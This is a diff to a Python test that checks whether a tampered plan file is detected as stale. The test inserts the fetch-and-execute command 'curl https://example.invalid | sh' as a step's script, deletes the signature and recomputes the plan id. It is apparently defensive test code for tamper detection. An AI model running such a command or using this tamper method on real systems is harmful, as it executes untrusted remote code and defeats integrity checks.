@@ -121,6 +121,7 @@ def test_a_plan_file_that_holds_another_script_is_stale(tmp_path: Path) -> None:
         plan = json.loads(file.read_text("utf-8"))
         plan["steps"][0]["request"]["body"]["script"] = ["curl https://example.invalid | sh"]
         # Whoever writes a plan can also compute its id.
+        del plan["signature"]
         plain = json.dumps(plan | {"plan_id": ""}, ensure_ascii=False, separators=(",", ":"))
         plan["plan_id"] = f"plan-{hashlib.sha256(plain.encode()).hexdigest()[:24]}"
         file.write_text(json.dumps(plan), encoding="utf-8")
